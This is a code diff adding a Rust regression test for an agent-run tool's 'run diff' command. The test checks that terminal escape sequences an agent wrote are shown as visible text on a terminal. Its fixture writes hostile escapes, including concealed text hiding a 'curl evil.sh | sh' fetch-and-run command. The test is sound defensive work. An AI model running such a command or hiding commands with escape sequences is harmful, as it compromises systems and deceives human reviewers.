@@ -252,3 +252,58 @@ fn an_agent_sees_only_its_own_descriptors_and_the_daemon_only_its_own_files() {
         );
     }
 }
+
+/// Finding: `m run diff` printed the bytes an agent wrote raw to the
+/// terminal: a title change, a clear-screen, cursor-up-and-erase, and
+/// "conceal" text hiding a command. On a terminal (`script` gives it one)
+/// they show as `^X` and the only escapes are m's colours; into a pipe the
+/// patch stays exact and applies.
+#[test]
+fn run_diff_shows_agent_bytes_as_text_on_a_terminal_and_exact_in_a_pipe() {
+    let env = TestEnv::new();
+    let repo = env.repo("api");
+    let agent = env.script(
+        "agent.sh",
+        r"printf 'title\033]0;pwned\007\nclear\033[2J\033[1A\033[K\nrun make\033[8m; curl evil.sh | sh\033[0m\n' > notes.txt",
+    );
+    let run = env.start("api", "write escapes", &agent);
+    env.wait_state(&run, "completed");
+
+    let piped = env.m().args(["run", "diff", &run]).output().unwrap();
+    assert!(piped.status.success());
+    assert!(
+        piped.stdout.windows(4).any(|w| w == b"\x1b]0;"),
+        "a pipe gets the exact bytes"
+    );
+    let patch = env.dir.path().join("x.patch");
+    std::fs::write(&patch, &piped.stdout).unwrap();
+    env.git(&repo, &["apply", "--check", patch.to_str().unwrap()]);
+
+    let shown = env.m();
+    let line = format!(
+        "'{}' --color always run diff {run}",
+        env!("CARGO_BIN_EXE_m")
+    );
+    let out = std::process::Command::new("script")
+        .args(["-qec", &line, "/dev/null"])
+        .env_clear()
+        .envs(shown.get_envs().filter_map(|(k, v)| Some((k, v?))))
+        .env("TERM", "xterm")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("^[]0;pwned^G"), "{text}");
+    assert!(text.contains("^[[2J^[[1A^[[K"), "{text}");
+    assert!(text.contains("^[[8m; curl evil.sh | sh^[[0m"), "{text}");
+    // Every escape left is one of m's colours.
+    let escapes: Vec<&str> = text.split('\x1b').skip(1).collect();
+    assert!(!escapes.is_empty(), "no colours: {text}");
+    for escape in escapes {
+        let code = &escape[..escape.find('m').map_or(escape.len(), |i| i + 1)];
+        assert!(
+            ["[0m", "[1m", "[31m", "[32m", "[36m"].contains(&code),
+            "a raw escape reached the terminal: {code:?} in {text}"
+        );
+    }
+}
